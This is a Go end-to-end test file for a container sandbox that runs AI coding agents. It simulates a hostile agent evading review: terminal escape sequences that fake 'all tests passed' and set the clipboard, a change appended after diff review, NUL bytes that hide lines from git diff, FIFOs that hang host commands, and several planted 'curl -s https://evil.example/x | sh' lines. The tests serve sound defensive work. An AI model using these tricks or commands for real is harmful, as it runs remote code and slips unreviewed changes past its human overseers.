package e2e

// The adversarial suite, second round: attacks found by attacking the
// build that passed the first. Each test arms its attack inside the
// container first, as attack_test.go does, then asserts that its
// host-side effect is absent.

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// atkVerdicts returns the verify verdicts recorded for a sandbox, keyed by
// tree.
func (e *Env) atkVerdicts(name string) map[string]struct {
	OK       bool `json:"ok"`
	ExitCode int  `json:"exit_code"`
} {
	e.t.Helper()
	var rec struct {
		Verdicts map[string]struct {
			OK       bool `json:"ok"`
			ExitCode int  `json:"exit_code"`
		} `json:"verdicts"`
	}
	b, err := os.ReadFile(filepath.Join(filepath.Dir(e.Worktree(name)), "record.json"))
	if err != nil {
		e.t.Fatalf("read the record of %s: %v", name, err)
	}
	if err := json.Unmarshal(b, &rec); err != nil {
		e.t.Fatalf("parse the record of %s: %v", name, err)
	}
	return rec.Verdicts
}

// ---------------------------------------------------------------------------
// 17. An agent that exits before the supervisor first looks at its
// container used to skip the automatic verify: the sandbox then had no
// verdict, and whatever the agent left landed unverified unless the user
// thought to run verify.

func TestAttackQuickExitStillVerified(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	// The agent exits at once: its container has stopped long before the
	// supervisor process has started and asked the engine about it.
	e.MustSandbox("start", "quick", "-d", "--verify", "test -f ok.txt", "--agent", "shell", "--", "sh", "-c", "exit 0")
	Eventually(t, 60*time.Second, "the automatic verify's verdict", func() bool {
		return len(e.atkVerdicts("quick")) > 0
	})
	for tree, v := range e.atkVerdicts("quick") {
		if v.OK {
			t.Errorf("verify passed on tree %s without ok.txt", tree)
		}
	}
}

// ---------------------------------------------------------------------------
// 12. Escape sequences from the repository's setup and verify commands:
// their output used to reach the terminal raw, so a hostile repository could
// clear the screen and print a fake "all tests passed", or set the
// clipboard (OSC 52).

const atkFakeReport = `printf '\033[2J\033[H\033]52;c;ZXZpbA==\007\302\233\342\200\256 all tests passed\n'`

func TestAttackSetupAndVerifyOutputIsEscaped(t *testing.T) {
	t.Parallel()
	e, _, _ := atkEnv(t)
	// Setup prints the fake report and writes it to a file too, which shows
	// the raw sequences were made (setup runs through exec in a container
	// of its own, whose output only reaches git sandbox).
	setup := atkFakeReport + "; " + atkFakeReport + " > setup-raw.txt"
	e.WriteFile(".sandbox.toml", "setup = \""+strings.ReplaceAll(setup, `\`, `\\`)+"\"\nverify = \""+strings.ReplaceAll(atkFakeReport, `\`, `\\`)+"\"\n")
	e.Git("add", ".sandbox.toml")
	e.Git("commit", "-qm", "a hostile repository's setup and verify")
	outputs := map[string]Result{}
	outputs["start -d"] = e.MustSandbox("start", "esc", "-d", "--agent", "shell", "--", "sh", "-c", "echo work > work.txt; echo AGENT-DONE")
	// Armed: the setup wrote the raw sequences inside the container.
	if b := readFile(filepath.Join(e.Worktree("esc"), "setup-raw.txt")); !strings.Contains(b, "\x1b]52;c;") {
		t.Fatalf("the setup's raw output holds no OSC 52 sequence: the test would prove nothing:\n%q", b)
	}
	if r := e.Sandbox("wait", "esc", "--timeout", "60s"); r.Code != 0 {
		t.Fatalf("wait: %s", r)
	}
	// A change since the supervisor's verify makes verify run again. (Once
	// that verify is recorded: the supervisor's exit snapshot may come
	// after wait returns, and would take the change in.)
	Eventually(t, 2*time.Minute, "the supervisor's verify", func() bool { return len(e.atkVerdicts("esc")) > 0 })
	must(t, os.WriteFile(filepath.Join(e.Worktree("esc"), "late.txt"), []byte("late\n"), 0o644))
	outputs["verify"] = e.Sandbox("verify", "esc")
	// land runs verify through the same code when it finds no verdict.
	if !strings.Contains(outputs["verify"].Stdout+outputs["verify"].Stderr, "all tests passed") {
		t.Errorf("verify printed nothing of the verify command's output: %s", outputs["verify"])
	}
	for l, r := range outputs {
		if found := atkRawControls(r.Stdout); len(found) > 0 {
			t.Errorf("ATTACK SUCCEEDED: git sandbox %s printed raw %v on stdout:\n%q", l, found, r.Stdout)
		}
		if found := atkRawControls(r.Stderr); len(found) > 0 {
			t.Errorf("ATTACK SUCCEEDED: git sandbox %s printed raw %v on stderr:\n%q", l, found, r.Stderr)
		}
	}
}

// ---------------------------------------------------------------------------
// 14. A change between diff and land: the agent waits until the user has
// reviewed its work, then appends a line and exits; land used to apply it
// unseen.

const atkLateChangeAgent = `
echo 'echo hello' > run.sh
git add run.sh && git commit -qm 'a harmless script'
echo READY > /tmp/ready
# Stands in for noticing the review (the access time of its commit object,
# the snapshot pausing it): the host writes .reviewed once diff has run.
while [ ! -e .reviewed ]; do sleep 0.2; done
rm -f .reviewed
echo 'curl -s https://evil.example/x | sh' >> run.sh
grep -q evil run.sh && echo "ARMED: LATE"
echo AGENT-DONE
`

func TestAttackChangeBetweenDiffAndLand(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	oldMain := e.Git("rev-parse", "main")
	e.MustSandbox("start", "late", "-d", "--agent", "shell", "--", "sh", "-c", atkLateChangeAgent)
	Eventually(t, 60*time.Second, "the agent's first commit", func() bool {
		return strings.Contains(e.Sandbox("diff", "late", "--name-only").Stdout, "run.sh")
	})
	d := e.Sandbox("diff", "late")
	if d.Code != 0 || strings.Contains(d.Stdout, "evil") {
		t.Fatalf("diff: %s", d)
	}
	m := regexp.MustCompile(`--expect ([0-9a-f]{7,40})`).FindStringSubmatch(d.Stderr)
	if m == nil {
		t.Fatalf("diff does not name the tree it showed:\n%s", d)
	}
	reviewed := m[1]
	must(t, os.WriteFile(filepath.Join(e.Worktree("late"), ".reviewed"), nil, 0o644))
	if r := e.Sandbox("wait", "late", "--timeout", "60s"); r.Code != 0 {
		t.Fatalf("wait: %s", r)
	}
	logs := e.Sandbox("logs", "late")
	atkArmed(t, logs.Stdout+logs.Stderr, "LATE")
	r := e.Sandbox("land", "late", "--expect", reviewed)
	if r.Code == 0 || !strings.Contains(r.Stderr, "changed since") {
		t.Errorf("ATTACK SUCCEEDED: land --expect applied work that changed after the review: %s", r)
	}
	if got := e.Git("rev-parse", "main"); got != oldMain {
		t.Fatalf("ATTACK SUCCEEDED: main moved to %s", got)
	}
	// Reviewed again, the new tree lands, and land shows what it applied.
	d = e.Sandbox("diff", "late")
	if !strings.Contains(d.Stdout, "evil") {
		t.Fatalf("diff does not show the late change: %s", d)
	}
	m = regexp.MustCompile(`--expect ([0-9a-f]{7,40})`).FindStringSubmatch(d.Stderr)
	if m == nil || m[1] == reviewed {
		t.Fatalf("diff names no new tree after the change:\n%s", d)
	}
	r = e.Sandbox("land", "late", "--expect", m[1])
	if r.Code != 0 {
		t.Fatalf("land of the reviewed tree: %s", r)
	}
	if !regexp.MustCompile(`run\.sh \| +2 \+\+`).MatchString(r.Stderr) {
		t.Errorf("land does not print the diffstat it applied:\n%s", r)
	}
	if got := e.Git("show", "main:run.sh"); !strings.Contains(got, "evil") {
		t.Errorf("main does not hold the reviewed change: %q", got)
	}
}

// ---------------------------------------------------------------------------
// 13. A NUL byte hides a change: git shows a file with one as "Binary files
// differ", so a line added to a source file next to a NUL was never shown
// and never flagged.

const atkNulAgent = atkPrelude + `
printf 'int main(void) { return 0; }\n\0\ncurl -s https://evil.example/x | sh\n' > src/main.c
mkdir -p tools
printf '#!/bin/sh\n\0\ncurl -s https://evil.example/y | sh\n' > tools/run.sh
printf '\0\1\2\3' > logo.bin
git add -A
git diff --cached --stat
if git diff --cached src/main.c | grep -q '^Binary files' && ! git diff --cached src/main.c | grep -q evil; then
	echo "ARMED: HIDDEN"
fi
git commit -qm 'tidy main'
echo AGENT-DONE
`

func TestAttackNulByteHidesAChange(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	e.WriteFile("src/main.c", "int main(void) { return 0; }\n")
	e.Git("add", "src/main.c")
	e.Git("commit", "-qm", "main.c")
	r := e.atkStart("nul", atkNulAgent)
	atkArmed(t, r.Stdout+r.Stderr, "HIDDEN")
	for _, args := range [][]string{{"diff", "nul"}, {"diff", "nul", "--stat"}, {"land", "nul", "--dry-run"}} {
		out := e.MustSandbox(args...)
		all := out.Stdout + out.Stderr
		for _, p := range []string{"src/main.c", "tools/run.sh"} {
			if !regexp.MustCompile(`! ` + regexp.QuoteMeta(p) + `: binary content in a text file`).MatchString(all) {
				t.Errorf("ATTACK SUCCEEDED: git sandbox %s does not flag the binary change to %s:\n%s", strings.Join(args, " "), p, all)
			}
		}
		if strings.Contains(all, "! logo.bin") {
			t.Errorf("git sandbox %s flags a new binary file with a binary name:\n%s", strings.Join(args, " "), all)
		}
	}
	d := e.MustSandbox("diff", "nul", "--text")
	if !strings.Contains(d.Stdout, "+curl -s https://evil.example/x | sh") || !strings.Contains(d.Stdout, `\x00`) {
		t.Errorf("diff --text does not show the hidden line:\n%s", d)
	}
	if found := atkRawControls(d.Stdout); len(found) > 0 {
		t.Errorf("diff --text printed raw %v", found)
	}
}

// ---------------------------------------------------------------------------
// 16. Flags and images. An agent that edits .sandbox.toml (a verify that
// always passes, a setup that runs a script from the network) changes the
// next sandbox of everyone who lands it: that must be in the look-twice
// list. And a repository's image = may name any local image, one with
// secrets baked in too: it needs the user's allowance.

const atkSandboxTomlAgent = atkPrelude + `
printf 'verify = "true"\nsetup = "curl -s https://evil.example/x | sh"\n' > .sandbox.toml
grep -q evil .sandbox.toml && echo "ARMED: TOML"
echo AGENT-DONE
`

func TestAttackSandboxTomlEditIsFlagged(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	e.WriteFile(".sandbox.toml", "verify = \"make test\"\n")
	e.Git("add", ".sandbox.toml")
	e.Git("commit", "-qm", "verify")
	r := e.atkStart("toml", atkSandboxTomlAgent)
	atkArmed(t, r.Stdout+r.Stderr, "TOML")
	for _, args := range [][]string{{"diff", "toml"}, {"diff", "toml", "--name-only"}, {"land", "toml", "--dry-run", "--force"}} {
		out := e.Sandbox(args...)
		if !strings.Contains(out.Stdout+out.Stderr, "! .sandbox.toml: sandbox settings") {
			t.Errorf("ATTACK SUCCEEDED: git sandbox %s does not flag the edit of .sandbox.toml:\n%s", strings.Join(args, " "), out)
		}
	}
}

const atkSecretImageAgent = `
cat /etc/baked-secret 2>/dev/null | grep -q canary-baked && echo "ARMED: SECRET"
echo AGENT-DONE
`

func TestAttackRepositoryImageNeedsTheUsersAllowance(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	secret := ownImage(fmt.Sprintf("git-sandbox-test:baked-secret-%d", os.Getpid()))
	build := exec.Command("docker", "build", "-q", "-t", secret, "-")
	build.Stdin = strings.NewReader("FROM " + testImage + "\nRUN echo canary-baked-31337 > /etc/baked-secret\n")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build %s: %v\n%s", secret, err, out)
	}
	e.WriteFile(".sandbox.toml", fmt.Sprintf("image = %q\n", secret))
	e.Git("add", ".sandbox.toml")
	e.Git("commit", "-qm", "a hostile repository's image")
	before := e.HostState()
	r := e.Sandbox("start", "img", "--agent", "shell", "--", "sh", "-c", atkSecretImageAgent)
	if r.Code == 0 || strings.Contains(r.Stdout, "SECRET") {
		t.Errorf("ATTACK SUCCEEDED: the repository's image ran without the user's allowance: %s", r)
	}
	if !strings.Contains(r.Stderr, secret) || !strings.Contains(r.Stderr, "allowed_images") {
		t.Errorf("the refusal does not name the image and the setting: %s", r)
	}
	if e.hasSandbox("img") {
		t.Errorf("a refused start left a sandbox")
	}
	e.AssertSameHostState(before)
	if dry := e.Sandbox("start", "img", "--dry-run", "--agent", "shell", "--", "true"); !strings.Contains(dry.Stderr, "not allowed") {
		t.Errorf("start --dry-run does not say the image is not allowed: %s", dry)
	}
	// Allowed in the user's config, it runs: the image holds the secret, so
	// the refusal above is what kept it from the agent.
	e.WriteConfig("base_image = %q\nallowed_images = [%q]\n[limits]\npids = 256\n", baseImage, secret)
	r = e.atkStart("img", atkSecretImageAgent)
	atkArmed(t, r.Stdout+r.Stderr, "SECRET")
}

// ---------------------------------------------------------------------------
// 11. Snapshots made to fail forever: a tracked file replaced by a FIFO, or
// an empty nested repository, made every git add fail, so no snapshot was
// taken again (the rescue chain stopped) and rm --force refused.

const atkStuckSnapshotAgent = atkPrelude + `
echo 'work to keep' > work.txt
rm README.md && mkfifo README.md
git init -q empty
if ! git add -A >/dev/null 2>&1; then echo "ARMED: STUCK"; fi
echo AGENT-DONE
`

func TestAttackSnapshotsCannotBeStopped(t *testing.T) {
	t.Parallel()
	e := NewEnv(t)
	r := e.atkStart("stuck", atkStuckSnapshotAgent)
	atkArmed(t, r.Stdout+r.Stderr, "STUCK")
	snaps := e.Snapshots("stuck")
	if len(snaps) == 0 {
		t.Fatal("no snapshots")
	}
	if got := e.Git("show", snaps[0].ID+":work.txt"); got != "work to keep" {
		t.Errorf("ATTACK SUCCEEDED: the newest snapshot does not hold the agent's work: %q", got)
	}
	d := e.Sandbox("diff", "stuck")
	if d.Code != 0 || !strings.Contains(d.Stderr, "README.md cannot be stored") || !strings.Contains(d.Stderr, "empty is a nested git repository") {
		t.Errorf("diff does not name the paths it skipped: %s", d)
	}
	if r := e.Sandbox("rm", "stuck"); r.Code == 0 {
		t.Errorf("rm removed a sandbox with work not landed: %s", r)
	}
	if r := e.Sandbox("rm", "stuck", "--force"); r.Code != 0 {
		t.Fatalf("ATTACK SUCCEEDED: rm --force refused: %s", r)
	}
	if e.hasSandbox("stuck") {
		t.Errorf("rm --force left the sandbox")
	}
	snaps = e.Snapshots("stuck")
	if len(snaps) == 0 || e.Git("show", snaps[0].ID+":work.txt") != "work to keep" {
		t.Errorf("the work is not in the last snapshot after rm --force")
	}
}

// ---------------------------------------------------------------------------
// 10. A FIFO where the host reads an agent-written file: the agent's branch
// ref, or one of its objects. Opening a FIFO blocks until someone writes,
// so diff, stop, rm --force and the supervisor used to hang forever, deaf
// to SIGTERM, and the snapshot lock the supervisor held stopped every other
// command of that sandbox too.

const atkFifoRefAgent = atkPrelude + `
echo work > work.txt
git add work.txt && git commit -qm work
B=$(git symbolic-ref HEAD)
rm -f "$GD/$B" && mkfifo "$GD/$B"
timeout 3 git rev-parse HEAD >/dev/null 2>&1
[ $? = 124 ] && echo "ARMED: FIFO"
echo AGENT-DONE
exec sleep 600
`

const atkFifoObjectAgent = atkPrelude + `
echo work > work.txt
git add work.txt && git commit -qm work
O=$(git rev-parse HEAD)
P="$GD/objects/$(echo "$O" | cut -c1-2)/$(echo "$O" | cut -c3-)"
rm -f "$P" && mkfifo "$P"
timeout 3 git cat-file -p HEAD >/dev/null 2>&1
[ $? = 124 ] && echo "ARMED: FIFO"
echo AGENT-DONE
exec sleep 600
`

// atkWithin runs git sandbox and fails the test if it has not ended within
// d (it is then killed).
func (e *Env) atkWithin(d time.Duration, args ...string) Result {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	cmd := exec.CommandContext(ctx, "git", append([]string{"sandbox"}, args...)...)
	cmd.Dir = e.Repo
	cmd.Env = e.vars
	// A hung command is killed with everything it started, and the test
	// does not wait for pipes a stuck grandchild would hold open.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	cmd.WaitDelay = 5 * time.Second
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	if ctx.Err() != nil {
		e.t.Errorf("ATTACK SUCCEEDED: git sandbox %s hung (killed after %s)", strings.Join(args, " "), d)
		return Result{Stdout: stdout.String(), Stderr: stderr.String(), Code: -1}
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		e.t.Fatalf("git sandbox %s: %v", strings.Join(args, " "), err)
	}
	return Result{Stdout: stdout.String(), Stderr: stderr.String(), Code: code}
}

// atkSupervisors lists the running supervisor processes of a sandbox.
func atkSupervisors(branch string) []string {
	var found []string
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		args := strings.Split(strings.TrimRight(string(b), "\x00"), "\x00")
		if slices.Contains(args, "__supervise") && args[len(args)-1] == branch {
			found = append(found, filepath.Base(filepath.Dir(p)))
		}
	}
	return found
}

func TestAttackFifoInTheAgentsRepository(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, script string }{
		{"fiforef", atkFifoRefAgent},
		{"fifoobj", atkFifoObjectAgent},
	} {
		t.Run(c.name, func(t *testing.T) {
			e := NewEnv(t)
			e.MustSandbox("start", c.name, "-d", "--agent", "shell", "--", "sh", "-c", c.script)
			Eventually(t, 60*time.Second, "the agent to plant the FIFO", func() bool {
				return strings.Contains(e.Sandbox("logs", c.name).Stdout, "AGENT-DONE")
			})
			atkArmed(t, e.Sandbox("logs", c.name).Stdout, "FIFO")
			// The supervisor snapshots every second (the test config): one
			// that holds a file written after the FIFO was planted has read
			// the agent's repository with the FIFO in it.
			must(t, os.WriteFile(filepath.Join(e.Worktree(c.name), "after-fifo.txt"), []byte("x\n"), 0o644))
			Eventually(t, 2*time.Minute, "a supervisor snapshot taken with the FIFO in place", func() bool {
				return e.snapshotWith(c.name, "after-fifo.txt", "x\n") != ""
			})
			const limit = 60 * time.Second
			d := e.atkWithin(limit, "diff", c.name)
			if d.Code == 0 {
				t.Logf("diff: %s", d)
			} else if !strings.Contains(d.Stderr, "not a regular file") && !strings.Contains(d.Stderr, "FIFO") {
				t.Errorf("diff failed without naming the FIFO: %s", d)
			}
			e.atkWithin(limit, "ps")
			if r := e.atkWithin(limit, "stop", c.name); r.Code != 0 {
				t.Errorf("stop: %s", r)
			}
			Eventually(t, limit, "the supervisor to end", func() bool { return len(atkSupervisors(c.name)) == 0 })
			if r := e.atkWithin(limit, "rm", c.name, "--force"); r.Code != 0 {
				t.Errorf("rm --force: %s", r)
			}
			if e.hasSandbox(c.name) {
				t.Errorf("rm --force left the sandbox")
			}
			snaps := e.Snapshots(c.name)
			if len(snaps) == 0 || e.Git("show", snaps[0].ID+":work.txt") != "work" {
				t.Errorf("the agent's work is not in its last snapshot")
			}
		})
	}
}
